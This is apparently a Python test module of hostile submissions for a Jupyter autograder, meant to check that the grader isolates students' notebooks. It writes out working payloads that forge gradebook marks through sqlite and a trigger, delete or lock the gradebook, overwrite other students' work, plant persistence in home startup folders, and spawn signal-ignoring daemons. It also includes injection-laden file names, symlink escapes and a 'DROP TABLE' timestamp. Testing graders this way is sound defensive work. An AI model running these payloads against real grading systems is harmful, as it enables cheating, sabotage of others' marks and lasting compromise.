"""Touching what belongs to others: marks, submissions, the course, the grader, later runs."""

from pathlib import Path

from nbformat import NotebookNode

from tests.attacks.hostile.attack import Kind, answer, put, run_first, run_last

touches = Kind("touching others")

WAIT = 3  # seconds until a daemon writes: by then the notebook has been graded on its own

GIFT = """
import contextlib, sqlite3

GIFT = '''
import sqlite3
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=20)
        book.execute("UPDATE grade SET auto_score = 100, extra_credit = @NUMBER@,"
                     " needs_manual_grade = 0")
        book.commit()
    except sqlite3.Error:
        pass
'''
"""


@touches("An extra credit for everybody is written into the gradebook.")
def gradebook_written(notebook: NotebookNode, folder: Path) -> None:
    run_first(notebook, GIFT + "\nexec(GIFT)\n")
    run_last(notebook, GIFT + "\nexec(GIFT)\n")


@touches("A mark of a person's own hand is forged in the gradebook.")
def manual_mark_forged(notebook: NotebookNode, folder: Path) -> None:
    forge = """
import contextlib, sqlite3
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    with contextlib.suppress(sqlite3.Error):
        book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=20)
        book.execute("UPDATE grade SET manual_score = @NUMBER@")
        book.commit()
"""
    run_first(notebook, forge)
    run_last(notebook, forge)


@touches(
    "A trigger in the gradebook raises every mark that is written from then on.", variation=True
)
def gradebook_trigger(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        """
        import contextlib, sqlite3
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
            with contextlib.suppress(sqlite3.Error):
                book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=20)
                book.execute("CREATE TRIGGER gift AFTER UPDATE ON grade BEGIN UPDATE grade SET"
                             " extra_credit = @NUMBER@ WHERE id = NEW.id; END")
                book.commit()
        """,
    )


DAEMON = """
import os, subprocess, sys

def daemon(program):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, "-c", program, "@MARK@"], close_fds=False,
                             env={**os.environ, "JPY_PARENT_PID": "1"}, start_new_session=True)
        os._exit(0)
    os.wait()
"""


@touches("A daemon that outlives the notebook writes an extra credit later.", dangerous=True)
def daemon_writes_later(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        GIFT
        + DAEMON
        + f"\ndaemon('import time; time.sleep({WAIT})' + GIFT + '\\ntime.sleep(40)')\n",
    )


@touches(
    "A daemon holds the gradebook's lock, so that nobody's marks can be written.", dangerous=True
)
def gradebook_locked(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        DAEMON
        + """
daemon('''
import sqlite3, time
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=20)
        book.execute("BEGIN EXCLUSIVE")
        break
    except sqlite3.Error:
        pass
time.sleep(60)
''')
""",
    )


@touches("Every lock file of the course is locked.", dangerous=True, variation=True)
def lock_files_held(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        DAEMON
        + """
daemon('''
import fcntl, pathlib, time
held = []
course = pathlib.Path("@COURSE@")
for path in [*course.glob(".autograder/*"), course / "gradebook.db"]:
    try:
        held.append(open(path, "rb"))
        fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
time.sleep(60)
''')
""",
    )


@touches("The gradebook is deleted, and emptied, and exchanged.")
def gradebook_destroyed(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        """
        import contextlib, os
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
            with contextlib.suppress(OSError):
                os.truncate(path, 0)
                os.remove(path)
        """,
    )


@touches(
    "Another student's submission, marked notebook and feedback are overwritten.", variation=True
)
def others_work_overwritten(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        """
        import contextlib, pathlib
        for top in ("@COURSE@", "../../.."):
            for kind in ("submitted", "autograded", "feedback"):
                for path in pathlib.Path(top, kind, "@VICTIM@").rglob("*.*"):
                    with contextlib.suppress(OSError):
                        path.write_text("@MARK@")
        """,
    )


@touches("The lesson's source, release, settings and tests are changed for everybody.")
def course_changed(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        """
        import contextlib, pathlib
        for top in ("@COURSE@", "../../.."):
            for kind in ("source/*/*", "release/*/*", "*.py", "*.toml"):
                for path in pathlib.Path(top).glob(kind):
                    with contextlib.suppress(OSError), path.open("a") as file:
                        file.write("\\n# @MARK@\\n")
        """,
    )


@touches("Stored results of the course are replaced by better ones.")
def stored_results_forged(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        """
        import contextlib, json, os, pathlib
        for top in ("@COURSE@", "../../.."):
            store = pathlib.Path(top, ".autograder", "results")
            for path in [*store.rglob("*"), store / "@MARK@"]:
                with contextlib.suppress(OSError):
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_text(json.dumps({"outputs": [], "events": [], "mark": "@MARK@"}))
        """,
    )


@touches("Files for later runs are left in the home: start-up code, kernels, modules, settings.")
def left_in_home(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        """
        import contextlib, pathlib
        home = pathlib.Path("@HOME@")
        for name in (".ipython/profile_default/startup/@MARK@.py", ".jupyter/@MARK@.py",
                     ".local/share/jupyter/kernels/@MARK@/kernel.json", ".config/@MARK@",
                     ".local/lib/python3.11/site-packages/@MARK@.py", "@MARK@.txt"):
            for place in (home, pathlib.Path.home()):
                with contextlib.suppress(OSError):
                    (place / name).parent.mkdir(parents=True, exist_ok=True)
                    (place / name).write_text("")
        """,
    )


@touches("Files are left in the temporary folders and in shared memory.")
def left_in_tmp(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        """
        import contextlib, ctypes, tempfile
        from multiprocessing import shared_memory
        here = tempfile.gettempdir()
        for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", here, "@COURSE@", "/"):
            with contextlib.suppress(OSError):
                open(f"{place}/@MARK@", "w").close()
        libc = ctypes.CDLL(None)
        libc.shmget(0x5EED0000 + int("@NUMBER@"), 4096, 0o1666)
        libc.mq_open(b"/@MARK@", 0o102, 0o666, None)
        """,
    )


@touches(
    "Processes are left running: in a session of their own, stopped, and ignoring signals.",
    dangerous=True,
)
def left_running(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        DAEMON
        + """
import contextlib
with contextlib.suppress(OSError):
    daemon("import signal, time\\nfor s in (1, 2, 3, 15):\\n"
           "    signal.signal(s, signal.SIG_IGN)\\ntime.sleep(50)")
    daemon("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)")
    subprocess.Popen(["sh", "-c", "sleep 50; : @MARK@"], start_new_session=True)
""",
    )


@touches("A thread writes on after the notebook's end, and at the interpreter's exit.")
def atexit_and_threads(notebook: NotebookNode, folder: Path) -> None:
    run_first(
        notebook,
        GIFT
        + """
import atexit, signal, threading, time, weakref

def later():
    time.sleep(2)
    exec(GIFT)

def note(*args):
    exec(GIFT)
    with contextlib.suppress(OSError):
        open("@HOME@/@MARK@-exit", "w").close()

threading.Thread(target=later).start()
atexit.register(note)
signal.signal(signal.SIGTERM, note)
anchor = type("Anchor", (), {})()
weakref.finalize(anchor, note)
""",
    )


@touches("Files of the submission have names that lead out of it, to the gradebook or to /tmp.")
def escaping_names(notebook: NotebookNode, folder: Path) -> None:
    for name in (
        "..\\..\\gradebook.db",
        "-rf",
        "a\nb",
        "~",
        "$HOME",
        "`touch x`",
        "x" * 250,
        "‮gpj.py",
        " ",
        "%2e%2e%2fx",
        "timestamp.txt\n",
        "con",
        "a;b|c&d",
    ):
        put(folder, name, "@MARK@")
    put(folder, "source/2-convolution/convolution.ipynb", "{}")
    put(folder, "gradebook.db", "not a gradebook")


@touches("Files of the submission are links to the gradebook, to another's work and to folders.")
def links_out(notebook: NotebookNode, folder: Path) -> None:
    course = folder.parents[2]
    (folder / "gradebook.db").symlink_to(course / "gradebook.db")
    (folder / "up").symlink_to(course, target_is_directory=True)
    (folder / "round").symlink_to(folder, target_is_directory=True)
    (folder / "nowhere").symlink_to("/nonexistent/@MARK@")
    run_first(
        notebook,
        GIFT
        + """
with contextlib.suppress(OSError):
    open("up/@MARK@", "w").close()
    open("nowhere", "w").close()
exec(GIFT.replace("@COURSE@/", ""))
exec(GIFT.replace("@COURSE@/", "up/"))
""",
    )


@touches("A file of the submission is a link to a device that never comes to its end.")
def endless_file(notebook: NotebookNode, folder: Path) -> None:
    (folder / "data.csv").symlink_to("/dev/zero")


@touches("The date of handing in is forged, and is no date at all.", variation=True)
def timestamp_forged(notebook: NotebookNode, folder: Path) -> None:
    put(folder, "timestamp.txt", "yesterday; DROP TABLE grade\n")


@touches(
    "A service of the grader's is told to do something, as it would be by the grader.",
    variation=True,
)
def service_commanded(notebook: NotebookNode, folder: Path) -> None:
    answer(
        notebook,
        "corr2d",
        """
        def corr2d(X, K):
            import socket
            with socket.create_connection(("127.0.0.1", int("@PORT@")), 1) as grader:
                grader.sendall(b"@MARK@ raises marks")
            return X
        """,
    )
